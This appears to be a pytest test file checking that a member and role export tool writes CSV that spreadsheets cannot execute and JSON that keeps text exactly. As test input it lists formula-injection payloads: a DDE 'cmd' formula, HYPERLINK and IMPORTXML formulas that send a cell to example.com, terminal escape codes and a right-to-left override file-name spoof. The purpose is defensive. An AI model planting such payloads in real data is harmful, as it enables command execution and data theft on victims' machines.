"""Rows as CSV that a spreadsheet cannot run and as JSON that loses nothing."""

from __future__ import annotations

import csv
import io
import json
import random
import re
import unicodedata
from dataclasses import replace
from typing import Any

import pytest

from semtui.api.errors import NoAnswerError, PermissionDeniedError, SemaphoreError
from semtui.api.models import (
    Group,
    Member,
    Permission,
    Project,
    Role,
    RoleBinding,
    ServiceAccount,
)
from semtui.export.contents import (
    COLUMNS,
    FORMATS,
    KINDS_OF,
    WHATS,
    Exported,
    Format,
    What,
    export_text,
    gaps,
    lists_for,
)
from semtui.export.csv_table import escape_formula
from semtui.export.records import NO_ROLE
from semtui.organization.listing import LIST_NAMES, Listing, ListName
from semtui.organization.people import People
from semtui.organization.projects import Projects
from semtui.organization.query import View, select
from semtui.text.clean import clean, raw

NOW = 1_795_442_400.0
CREATED = 1_752_627_855
CREATED_CSV, CREATED_JSON = "2025-07-16 01:04:15Z", "2025-07-16T01:04:15Z"

# What others may have typed as a name, and what a spreadsheet makes of it without care.
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.com?x="&A1,"click")',
    '=IMPORTXML(CONCAT("https://example.com/",A1),"//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "\ufeff=1+1",
    "\ufeff  =1+1",
    "   =1+1",
    "\xa0=1+1",
    "\u3000=1+1",
    "\ufe0f=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "a;=1+1",
    "a; \t@SUM(A1);-1",
]
HOSTILE = [
    *FORMULAS,
    'say "hi"',
    '"',
    '""=1+1',
    "a,b",
    "two\nlines",
    "two\r\nlines",
    "\x1b]0;title\x07\x1b[2J",
    "user\u202egnp.exe",
    "ad\u200bmin",
    "\ud800 half",
    "'=1+1",
    "Zoë 王秀英 🚀",
]
WHOLE = [text for text in HOSTILE if "\ud800" not in text]
"""All but the text with half a character, which JSON cannot hold."""

ACCOUNT_COUNTS = ("service_accounts", "deactivated_service_accounts")


def member(id: str, name: str, *roles: tuple[str, str]) -> Member:
    bindings = tuple(RoleBinding(role_id=f"id of {role}", role_name=role, source=source) for role, source in roles)
    return Member(id=id, name=name, roles=bindings)


def organization(**lists: Any) -> People:
    """A small organization with all its lists loaded."""
    people = People()
    full: dict[str, tuple[Any, ...]] = {
        "users": (
            member("p2", "Bo", ("Member", "scim"), ("Admin", "manually")),
            member("p1", "Ada", ("Owner", "manually")),
        ),
        "account_members": (member("a1", "old name", ("Member", "manually")),),
        "group_members": (member("g1", "Crew", ("Member", "manually")),),
        "accounts": (
            ServiceAccount(
                id="a1",
                name="ci",
                description="Deploys",
                org_id="o",
                creator_id="p1",
                created_at=CREATED,
                updated_at=CREATED + 60,
            ),
            ServiceAccount(id="a2", name="idle", deactivated=True),
        ),
        "groups": (Group(id="g1", name="Crew", description="Ships", member_ids=("gone", "p1", "a1")),),
        "roles": (
            Role(
                id="id of Member",
                name="Member",
                org_id="o",
                scope="org",
                description="Looks",
                permissions=("organization.view", "organization.dashboards.view"),
                rbac_permissions=(Permission(name="organization.view", description="Sees it"),),
                readonly=True,
            ),
            Role(id="id of Admin", name="Admin", scope="org"),
        ),
        **lists,
    }
    for name in LIST_NAMES:
        people = people.arrived(name, full[name], NOW)
    return people


def without(people: People, *names: ListName, trouble: SemaphoreError | None = None) -> People:
    """The same, with lists that never came."""
    for name in names:
        never: dict[str, Any] = {name: People().listing(name)}
        fresh = replace(people, **never)
        people = fresh.failed(name, trouble or NoAnswerError("acme is slow."))
    return people


PROJECTS = Projects(
    Listing(
        (
            Project(id="j1", name="shop", description="Sells", org_id="o", owner_id="p1"),
            Project(id="j2", name="unread", org_id="o", owner_id="gone"),
        ),
        loading=False,
        loaded_at=NOW,
    ),
    {"j1": Listing((member("p2", "Bo", ("Reader", "github"), ("Admin", "manually")),), loading=False, loaded_at=NOW)},
)


def exported(people: People, form: Format, what: What, projects: Projects = PROJECTS) -> Exported:
    roles = people.roles.items if (what, form) == ("all", "json") else None
    rows: dict[str, Any] = {"roles": people.roles.items, "projects": projects.listing.items}
    return export_text(rows.get(what, people.subjects), people, form, what, roles, projects)


def text_of(people: People, form: Format, what: What) -> str:
    return exported(people, form, what).text


def table(people: People, what: What) -> list[dict[str, str]]:
    """The CSV read back, row by row."""
    return list(csv.DictReader(io.StringIO(text_of(people, "csv", what), newline=""), strict=True))


def as_json(people: People, what: What) -> dict[str, Any]:
    text = text_of(people, "json", what)
    assert text.isascii()
    found: dict[str, Any] = json.loads(text)
    return found


def computes(cell: str) -> bool:
    """Whether a spreadsheet may run a cell, wherever it lets a cell begin; written apart from what is tested."""
    cell = cell.replace('"', "")
    for part in cell.split(";"):
        begin = next((char for char in part if not char.isspace() and char != "\ufeff"), "")
        if begin in tuple("=+-@＝＋－＠\0\t\r"):
            return True
    return False


# Tables


def test_people_begin_with_the_columns_of_the_web_and_its_empty_ones() -> None:
    text = text_of(organization(), "csv", "people")
    assert text == (
        "name,email,github_login,bitbucket_login,gitlab_login,id,kind,role,source,effective,state\r\n"
        "Ada,,,,,p1,person,Owner,manually,Owner; Member,\r\n"
        "Bo,,,,,p2,person,Admin; Member,manually; scim,Admin; Member,\r\n"
    )


def test_service_accounts_begin_with_the_columns_of_the_web_and_tell_when_they_were_really_updated() -> None:
    text = text_of(organization(), "csv", "service-accounts")
    assert text == (
        "name,description,deactivated,created_at,updated_at,id,kind,role,source,effective,state\r\n"
        "ci,Deploys,false,2025-07-16 01:04:15Z,2025-07-16 01:05:15Z,"
        "a1,service_account,Member,manually,Member,active\r\n"
        "idle,,true,,,a2,service_account,(none),,(none),deactivated\r\n"
    )


def test_groups_tell_how_many_members_they_have_and_who_they_are() -> None:
    text = text_of(organization(), "csv", "groups")
    # Whom no list names stands last, with an empty name.
    assert text == (
        "name,description,members,member_names,member_ids,id,kind,role,source,effective,state\r\n"
        "Crew,Ships,3,Ada; ci; ,p1; a1; gone,g1,group,Member,manually,Member,\r\n"
    )


def test_roles_tell_what_they_permit_and_how_many_hold_them() -> None:
    text = text_of(organization(), "csv", "roles")
    assert text == (
        "name,description,scope,permissions,origin,people,service_accounts,groups,deactivated_service_accounts,id,permission_names\r\n"
        "Admin,,org,0,custom,1,0,0,0,id of Admin,\r\n"
        "Member,Looks,org,2,built-in,1,1,1,0,id of Member,organization.dashboards.view; organization.view\r\n"
    )


def test_the_table_of_all_has_every_column_and_everyone_but_no_roles() -> None:
    rows = table(organization(), "all")
    assert [row["name"] for row in rows] == ["Ada", "Bo", "ci", "idle", "Crew"]
    assert [row["kind"] for row in rows] == ["person", "person", "service_account", "service_account", "group"]
    for what in WHATS[:3]:
        assert set(COLUMNS[what]) <= set(COLUMNS["all"])
        for row in table(organization(), what):
            assert row.items() <= next(one for one in rows if one["id"] == row["id"]).items()


def test_no_role_and_an_unknown_role_are_not_the_same() -> None:
    people = without(organization(), "account_members", "group_members")
    assert [(row["name"], row["role"], row["source"]) for row in table(people, "all")[2:]] == [
        ("ci", "", ""),
        ("idle", "", ""),
        ("Crew", "", ""),
    ]
    assert [row["role"] for row in table(organization(), "service-accounts")] == ["Member", NO_ROLE]
    assert as_json(people, "groups")["groups"][0]["roles"] is None
    assert as_json(organization(), "service-accounts")["service_accounts"][1]["roles"] == []


# With groups counted


def effective(people: People, what: What = "all") -> dict[str, str]:
    return {row["id"]: row["effective"] for row in table(people, what)}


def test_roles_through_groups_are_among_the_effective_ones() -> None:
    people = organization(group_members=(member("g1", "Crew", ("Admin", "manually")),))
    assert effective(people) == {
        "p1": "Owner; Admin",
        "p2": "Admin; Member",
        "a1": "Admin; Member",
        "a2": NO_ROLE,
        "g1": "Admin",
    }
    assert as_json(people, "people")["people"][0]["effective"] == {"roles": ["Owner", "Admin"], "complete": True}


def test_an_effective_role_that_may_be_missing_is_unknown_and_never_an_empty_cell() -> None:
    blind = without(organization(), "groups", "group_members", "account_members")
    assert effective(blind) == {
        "p1": "Owner; (unknown)",
        "p2": "Admin; Member; (unknown)",
        "a1": "(unknown)",
        "a2": "(unknown); (deactivated)",
    }
    assert as_json(blind, "people")["people"][0]["effective"] == {"roles": ["Owner"], "complete": False}
    # What the group gives is not known, to itself and to its members.
    by_group = effective(without(organization(), "group_members"))
    assert by_group == {
        "p1": "Owner; (unknown)",
        "p2": "Admin; Member",
        "a1": "Member; (unknown)",
        "a2": NO_ROLE,
        "g1": "(unknown)",
    }


def test_groups_that_were_not_read_make_nothing_unknown_that_they_could_not_add() -> None:
    # The list of their roles arrived, and tells which ones groups give at all.
    assert effective(without(organization(), "groups"), "people") == {"p1": "Owner; (unknown)", "p2": "Admin; Member"}


def test_a_deactivated_account_is_marked_beside_what_it_would_hold() -> None:
    off = organization(account_members=(member("a2", "idle", ("Admin", "manually")),))
    assert effective(off, "service-accounts")["a2"] == "Admin; (deactivated)"
    assert as_json(off, "service-accounts")["service_accounts"][1]["effective"] == {
        "roles": ["Admin"],
        "complete": True,
    }


def test_a_role_without_a_name_is_told_by_its_id() -> None:
    nameless = Member(id="p", name="P", roles=(RoleBinding(role_id="r-1", source="scim"),))
    (row,) = table(organization(users=(nameless,)), "people")
    assert (row["role"], row["source"]) == ("r-1", "scim")


def test_an_account_that_only_its_roles_tell_of_has_empty_cells() -> None:
    people = organization(accounts=())
    (row,) = table(people, "service-accounts")
    assert (row["name"], row["deactivated"], row["state"]) == ("old name", "", "unknown")
    (record,) = as_json(people, "service-accounts")["service_accounts"]
    assert (record["deactivated"], record["description"], record["created_at"]) == (None, None, None)


def test_members_of_a_group_that_only_its_role_tells_of_are_not_known() -> None:
    people = organization(groups=())
    (row,) = table(people, "groups")
    assert (row["name"], row["members"], row["member_ids"]) == ("Crew", "", "")
    (record,) = as_json(people, "groups")["groups"]
    assert (record["members"], record["description"]) == (None, None)


@pytest.mark.parametrize(
    ("lists", "unknown"),
    [
        (("users",), {"people", *ACCOUNT_COUNTS}),
        (("account_members",), {*ACCOUNT_COUNTS}),
        (("accounts",), {"people", *ACCOUNT_COUNTS}),
        (("group_members",), {"groups"}),
    ],
)
def test_holders_are_not_counted_where_a_list_is_missing(lists: tuple[ListName, ...], unknown: set[str]) -> None:
    people = without(organization(), *lists)
    for row, record in zip(table(people, "roles"), as_json(people, "roles")["roles"], strict=True):
        assert {key for key in ("people", "groups", *ACCOUNT_COUNTS) if row[key] == ""} == unknown
        assert {key for key, number in record["held_by"].items() if number is None} == unknown


@pytest.mark.parametrize(
    ("seconds", "written"),
    [(CREATED, CREATED_CSV), (1, "1970-01-01 00:00:01Z"), (None, ""), (0, ""), (-1, ""), (10**30, "")],
)
def test_times_are_written_as_the_web_does_and_nonsense_is_left_out(seconds: int | None, written: str) -> None:
    people = organization(accounts=(ServiceAccount(id="a", created_at=seconds, updated_at=seconds),))
    (row,) = [row for row in table(people, "service-accounts") if row["id"] == "a"]
    assert (row["created_at"], row["updated_at"]) == (written, written)
    (record,) = [one for one in as_json(people, "service-accounts")["service_accounts"] if one["id"] == "a"]
    assert record["created_at"] == seconds
    assert record["created_at_utc"] == (written.replace(" ", "T") or None)


def test_what_the_screen_shows_is_exported_in_its_order() -> None:
    people = organization()
    shown = select(people, View(search="c", sort="created"))
    rows = csv.DictReader(io.StringIO(export_text(shown, people, "csv", "all").text))
    assert [row["name"] for row in rows] == [subject.name for subject in shown] != []
    lists = json.loads(export_text(shown, people, "json", "all").text)
    assert set(lists) == {"people", "service_accounts", "groups"}
    assert [record["name"] for record in lists["service_accounts"]] == ["ci"]


@pytest.mark.parametrize("form", FORMATS)
@pytest.mark.parametrize("what", WHATS)
def test_the_order_in_which_lists_arrive_changes_nothing(what: What, form: Format) -> None:
    people = organization()
    shuffled = people
    for name in LIST_NAMES:
        items = list(people.listing(name).items)
        random.Random(7).shuffle(items)
        shuffled = shuffled.arrived(name, tuple(items[::-1]), NOW)
    assert text_of(people, form, what) == text_of(shuffled, form, what)


@pytest.mark.parametrize("what", WHATS)
def test_an_empty_organization_has_headers_and_empty_lists(what: What) -> None:
    empty: dict[str, Any] = {name: () for name in LIST_NAMES}
    people = organization(**empty)
    assert exported(people, "csv", what, Projects()).text == ",".join(COLUMNS[what]) + "\r\n"
    lists = json.loads(exported(people, "json", what, Projects()).text)
    assert len(lists) == {"all": 4}.get(what, 1)
    assert all(records == [] for records in lists.values())


# Inert


@pytest.mark.parametrize("text", FORMULAS)
def test_the_corpus_is_dangerous_as_it_came(text: str) -> None:
    plain = "".join(char for char in text if char not in "\ufe0f\n")
    assert computes(plain)


def hostile_organization(text: str) -> People:
    """`text` wherever somebody can put one."""
    role = Role(id=text, name=text, description=text, scope=text, permissions=(text, f"x{text}"))
    held = (RoleBinding(role_id=text, role_name=text, source=text), RoleBinding(role_id="r", role_name=text))
    return organization(
        users=(Member(id=f"p{text}", name=text, roles=held),),
        account_members=(Member(id=f"a{text}", name=text, roles=held),),
        group_members=(Member(id=f"g{text}", name=text, roles=held),),
        accounts=(ServiceAccount(id=f"a{text}", name=text, description=text, creator_id=text, org_id=text),),
        groups=(Group(id=f"g{text}", name=text, description=text, member_ids=(f"p{text}", f"a{text}", text)),),
        roles=(role,),
    )


def hostile_projects(text: str) -> Projects:
    project = Project(id=text, name=text, description=text, org_id=text, owner_id=f"p{text}")
    people = tuple(
        Member(id=f"{number}{text}", name=text, roles=(RoleBinding(role_id=text, role_name=text),)) for number in "12"
    )
    return Projects(Listing((project,), False, NOW), {project.id: Listing(people, False, NOW)})


@pytest.mark.parametrize("what", WHATS)
@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_computes_or_commands(text: str, what: What) -> None:
    people = hostile_organization(text)
    written = exported(people, "csv", what, hostile_projects(text)).text
    assert written.replace("\r\n", "").isprintable()
    rows = list(csv.reader(io.StringIO(written, newline=""), strict=True))
    assert rows[0] == list(COLUMNS[what])
    assert len(rows) == 1 + {"roles": 1, "projects": 1}.get(what, len(KINDS_OF[what]))
    assert {len(row) for row in rows} == {len(COLUMNS[what])}
    assert [cell for row in rows[1:] for cell in row if computes(cell)] == []
    # Where a semicolon divides columns, quotes that a comma follows mean nothing.
    assert not any(map(computes, written.split("\r\n")))


@pytest.mark.parametrize("text", FORMULAS)
def test_what_would_compute_is_told_to_be_text_and_otherwise_kept(text: str) -> None:
    cell = table(hostile_organization(text), "people")[0]["name"]
    assert "'" in cell
    assert re.sub("(^|;)'", r"\1", cell) == clean(text)


@pytest.mark.parametrize("text", ["", "ci-deployer", "a=b", "me@example.com", "x;y", "(none)", "'quoted'"])
def test_what_is_harmless_is_left_alone(text: str) -> None:
    assert escape_formula(text) == text


def test_random_texts_come_back_as_they_were_shown() -> None:
    source = random.Random(20261124)
    alphabet = "=+-@;, \"'\t\r\n\0\ufeffaé＝\u202e\x1b"
    texts = ["".join(source.choices(alphabet, k=source.randint(0, 9))) for _ in range(2000)]
    people = organization(users=tuple(Member(id=f"p{number:04}", name=text) for number, text in enumerate(texts)))
    rows = {row["id"]: row["name"] for row in table(people, "people")}
    for number, text in enumerate(texts):
        cell = rows[f"p{number:04}"]
        assert not computes(cell), (text, cell)
        assert re.sub("'", "", cell) == re.sub("'", "", clean(text))


def test_a_long_text_is_not_cut() -> None:
    text = "\x1b" + "long " * 2000
    (row,) = table(organization(accounts=(ServiceAccount(id="a1", name="ci", description=text),)), "service-accounts")
    assert row["description"] == "␛" + "long " * 2000


# Lossless


@pytest.mark.parametrize("text", [*WHOLE, "e\u0301\u0301\u0301\u0301", "x" * 5000, "❤\ufe0f"])
def test_json_holds_the_very_text_that_was_sent(text: str) -> None:
    lists = as_json(hostile_organization(text), "all")
    binding = {"role_id": text, "role_name": text, "source": text}
    (person,) = lists["people"]
    assert (person["id"], person["name"]) == (f"p{text}", text)
    assert binding in person["roles"]
    (account,) = lists["service_accounts"]
    assert [account[key] for key in ("name", "description", "creator_id", "org_id")] == [text] * 4
    (group,) = lists["groups"]
    assert (group["name"], group["description"]) == (text, text)
    assert {(one["id"], one["name"]) for one in group["members"]} == {
        (f"p{text}", text),
        (f"a{text}", text),
        (text, None),
    }
    (role,) = lists["roles"]
    assert [role[key] for key in ("id", "name", "description", "scope")] == [text] * 4
    assert sorted(role["permissions"]) == sorted([text, f"x{text}"])


@pytest.mark.parametrize("what", WHATS)
def test_half_a_character_is_replaced_in_json_and_told(what: What) -> None:
    text = "a\ud800b\udc00"
    written = exported(hostile_organization(text), "json", what, hostile_projects(text))
    assert "\\ud8" not in written.text
    assert "\\udc" not in written.text
    assert "a\ufffdb\ufffd" in {value for value in texts_in(json.loads(written.text))}
    (note,) = [note for note in written.notes if "half of a character" in note]
    assert re.fullmatch(r"\d+ texts hold half of a character, which JSON cannot; U\+FFFD stands there\.", note)
    assert written.cut == ()


def texts_in(value: Any) -> list[str]:
    if isinstance(value, dict):
        return texts_in(list(value.values()))
    return [text for one in value for text in texts_in(one)] if isinstance(value, list) else [str(value)]


def test_a_whole_character_beyond_the_first_65_536_is_none_of_the_halves() -> None:
    written = exported(organization(users=(Member(id="p", name="🚀"),)), "json", "people")
    assert written.notes == ()
    assert json.loads(written.text)["people"][0]["name"] == "🚀"


def test_the_original_travels_only_where_it_differs() -> None:
    account = ServiceAccount(id="a", name="ci\x1b", description="plain")
    assert (account.name, raw(account.name)) == ("ci␛", "ci\x1b")
    assert type(account.description) is str
    assert raw(Role(id="r", name=account.name).name) == "ci\x1b"


def test_a_json_file_tells_all_there_is() -> None:
    lists = as_json(organization(), "all")
    assert list(lists) == ["people", "service_accounts", "groups", "roles"]
    assert lists["people"][1] == {
        "id": "p2",
        "kind": "person",
        "name": "Bo",
        "state": "",
        "roles": [
            {"role_id": "id of Admin", "role_name": "Admin", "source": "manually"},
            {"role_id": "id of Member", "role_name": "Member", "source": "scim"},
        ],
        "effective": {"roles": ["Admin", "Member"], "complete": True},
    }
    assert lists["service_accounts"][0] == {
        "id": "a1",
        "kind": "service_account",
        "name": "ci",
        "description": "Deploys",
        "deactivated": False,
        "org_id": "o",
        "creator_id": "p1",
        "created_at": CREATED,
        "created_at_utc": CREATED_JSON,
        "updated_at": CREATED + 60,
        "updated_at_utc": "2025-07-16T01:05:15Z",
        "state": "active",
        "roles": [{"role_id": "id of Member", "role_name": "Member", "source": "manually"}],
        "effective": {"roles": ["Member"], "complete": True},
    }
    assert lists["groups"][0]["members"][-1] == {"id": "gone", "name": None}
    assert lists["groups"][0]["member_ids"] == ["gone", "p1", "a1"]
    assert lists["roles"][1]["readonly"] is True
    assert lists["roles"][1]["permissions"] == ["organization.dashboards.view", "organization.view"]
    assert lists["roles"][1]["rbac_permissions"] == [{"name": "organization.view", "description": "Sees it"}]


# Projects


def test_projects_tell_their_owner_and_their_people() -> None:
    # Whose people were not read has empty cells, and so has an owner nobody lists.
    assert text_of(organization(), "csv", "projects") == (
        "name,description,members,member_names,member_ids,member_roles,owner,owner_id,org_id,id\r\n"
        'shop,Sells,1,Bo,p2,"Admin, Reader",Ada,p1,o,j1\r\n'
        "unread,,,,,,,gone,o,j2\r\n"
    )
    shop, unread = as_json(organization(), "projects")["projects"]
    assert shop == {
        "id": "j1",
        "name": "shop",
        "description": "Sells",
        "org_id": "o",
        "owner_id": "p1",
        "owner_name": "Ada",
        "members": [
            {
                "id": "p2",
                "name": "Bo",
                "roles": [
                    {"role_id": "id of Admin", "role_name": "Admin", "source": "manually"},
                    {"role_id": "id of Reader", "role_name": "Reader", "source": "github"},
                ],
            }
        ],
    }
    assert (unread["owner_name"], unread["members"]) == (None, None)


def test_an_export_of_projects_says_that_others_may_have_access_too() -> None:
    (note,) = exported(organization(), "csv", "projects").notes
    assert note == "Groups and service accounts may have access to a project too; Semaphore shows its people only."


def test_what_is_lacking_of_projects_is_told() -> None:
    slow = NoAnswerError("acme is slow.")
    assert gaps(organization(), "projects", "csv", Projects().failed(slow)).missing == (
        "The list of projects could not be read: acme is slow.",
    )
    assert gaps(organization(), "projects", "csv").missing == (
        "The list of projects could not be read: It has not arrived yet.",
    )
    assert gaps(organization(), "projects", "csv", PROJECTS.failed(slow)).doubts == (
        "The list of projects could not be reloaded, so older data is written: acme is slow.",
        "The people of 1 project are not read yet; their cells are left empty.",
    )
    refused = PROJECTS.with_members("j2", Listing(loading=False, error=slow))
    older = refused.with_members("j1", Listing(loading=False, loaded_at=NOW, error=slow))
    assert gaps(organization(), "projects", "csv", older).doubts == (
        "The people of 1 project could not be read: acme is slow. Their cells are left empty.",
        "The people of 1 project could not be reloaded, so older data is written: acme is slow.",
    )


def test_without_the_list_of_people_owners_have_no_name() -> None:
    (sentence,) = gaps(without(organization(), "users"), "projects", "csv", PROJECTS).doubts[1:]
    assert sentence.startswith("The list of people could not be read: acme is slow.")


# Gaps


@pytest.mark.parametrize("form", FORMATS)
@pytest.mark.parametrize("what", WHATS)
def test_nothing_is_lacking_when_the_lists_of_an_export_are_there(what: What, form: Format) -> None:
    others = set(LIST_NAMES) - set(lists_for(what, form))
    projects = PROJECTS.with_members("j2", Listing((), loading=False, loaded_at=NOW))
    found = gaps(without(organization(), *others), what, form, projects)
    assert (found.missing, found.doubts) == ((), ())


@pytest.mark.parametrize(
    ("what", "form", "fatal"),
    [
        ("people", "csv", {"users"}),
        ("service-accounts", "csv", {"accounts"}),
        ("groups", "json", {"groups"}),
        ("roles", "csv", {"roles"}),
        ("all", "csv", {"users", "accounts", "groups"}),
        ("all", "json", {"users", "accounts", "groups", "roles"}),
    ],
)
def test_each_missing_list_is_fatal_or_a_doubt_or_beside_the_point(what: What, form: Format, fatal: set[str]) -> None:
    for name in LIST_NAMES:
        found = gaps(without(organization(), name), what, form)
        assert bool(found.missing) == (name in fatal)
        if name not in lists_for(what, form):
            assert not found.doubts
        for sentence in (*found.missing, *found.doubts):
            assert "acme is slow." in sentence


def test_lists_that_share_a_reason_share_a_sentence() -> None:
    refused = PermissionDeniedError("This API token lacks the permission x.")
    found = gaps(without(organization(), "users", "accounts", "groups", trouble=refused), "all", "csv")
    assert found.missing == (
        "The lists of people, service accounts and groups could not be read: This API token lacks the permission x.",
    )


def test_a_list_still_on_its_way_is_missing() -> None:
    (sentence,) = gaps(People(), "people", "csv").missing
    assert sentence == "The list of people could not be read: It has not arrived yet."


def test_an_older_list_is_written_and_said_to_be_older() -> None:
    found = gaps(organization().failed("users", NoAnswerError("acme is slow.")), "people", "csv")
    assert found.missing == ()
    assert found.doubts == ("The list of people could not be reloaded, so older data is written: acme is slow.",)


def test_people_may_hold_accounts_when_nobody_tells_which_they_are() -> None:
    (sentence,) = gaps(without(organization(), "accounts"), "people", "csv").doubts
    assert sentence.endswith("Service accounts may stand among the people.")


def test_every_character_a_spreadsheet_skips_is_skipped() -> None:
    skipped = [chr(code) for code in range(0x3001) if unicodedata.category(chr(code)) == "Zs"]
    assert len(skipped) > 10
    for char in skipped:
        assert escape_formula(f"{char}=1") == f"'{char}=1"
